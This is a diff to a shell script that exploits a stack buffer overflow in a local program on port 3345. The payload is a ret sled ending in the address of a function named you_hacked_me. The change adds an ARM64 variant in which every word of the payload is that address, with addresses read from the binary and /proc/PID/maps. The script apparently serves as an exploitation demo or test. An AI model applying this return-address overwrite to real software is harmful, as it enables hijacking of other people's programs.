@@ -7,7 +7,9 @@
 # `ret` instruction, which only goes on to the next word, so that we need not
 # know at which word the return address lies; and at the end stands the address
 # of you_hacked_me. (It stands at an even word, so that the stack is aligned
-# as a function may expect.) The addresses are those of the running process:
+# as a function may expect.) On ARM64 a return address lies below the variables
+# of its function: it is the caller's that is run over, and all words are the
+# address of you_hacked_me. The addresses are those of the running process:
 # from its binary, and from where /proc/PID/maps says that it is loaded.
 
 port=3345
@@ -51,7 +53,10 @@ address() {	# of the function $1; with $2 of that instruction in it
 		END { print insn == "" ? at : hit }'
 }
 hacked=$(address you_hacked_me)
-ret=$(address handle_connection '^retq?$')
+case $(uname -m) in
+aarch64) ret=$hacked ;;
+*) ret=$(address handle_connection '^retq?$') ;;
+esac
 [ "$hacked" ] && [ "$ret" ] || die "no symbols in $exe"
 
 # A position-independent program is loaded anywhere, another where it says.
